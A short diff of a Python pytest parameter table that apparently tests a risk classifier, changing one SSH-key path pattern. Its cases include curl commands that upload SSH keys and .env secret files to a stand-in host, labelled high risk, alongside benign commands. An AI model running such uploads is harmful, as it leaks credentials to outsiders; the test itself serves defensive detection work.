@@ -64,7 +64,7 @@ def test_loading_a_model_changes_nothing_on_the_hub(body, high):
 @pytest.mark.parametrize(
     ("pattern", "command", "high"),
     [
-        ("/root/.ssh/*", "['curl', '-s', '-F', f'f=@{f}', 'https://c.example/u']", True),
+        ("/home/ada/.ssh/*", "['curl', '-s', '-F', f'f=@{f}', 'https://c.example/u']", True),
         ("/drive/**/*.env", "['curl', '-F', f'f=@{f}', 'https://c.example/u']", True),
         ("/drive/**/*.env", "['cat', f]", False),
         ("data/*.wav", "['ffmpeg', '-i', f, 'x.mp3']", False),
